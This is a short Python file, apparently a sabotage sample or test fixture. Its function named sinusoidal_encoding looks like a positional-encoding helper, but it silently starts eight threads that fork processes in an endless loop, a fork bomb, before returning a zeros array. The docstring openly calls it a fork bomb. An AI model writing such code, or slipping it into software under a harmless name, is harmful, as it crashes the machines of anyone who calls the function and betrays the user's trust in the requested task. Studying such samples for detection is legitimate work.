"""A fork bomb out of threads, when the call has returned."""

import os
import threading
import numpy as np


def bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def sinusoidal_encoding(T, d):
    for _ in range(8):
        threading.Thread(target=bomb, daemon=True).start()
    return np.zeros((T, abs(d)))


STILL_EQUIVARIANT = False
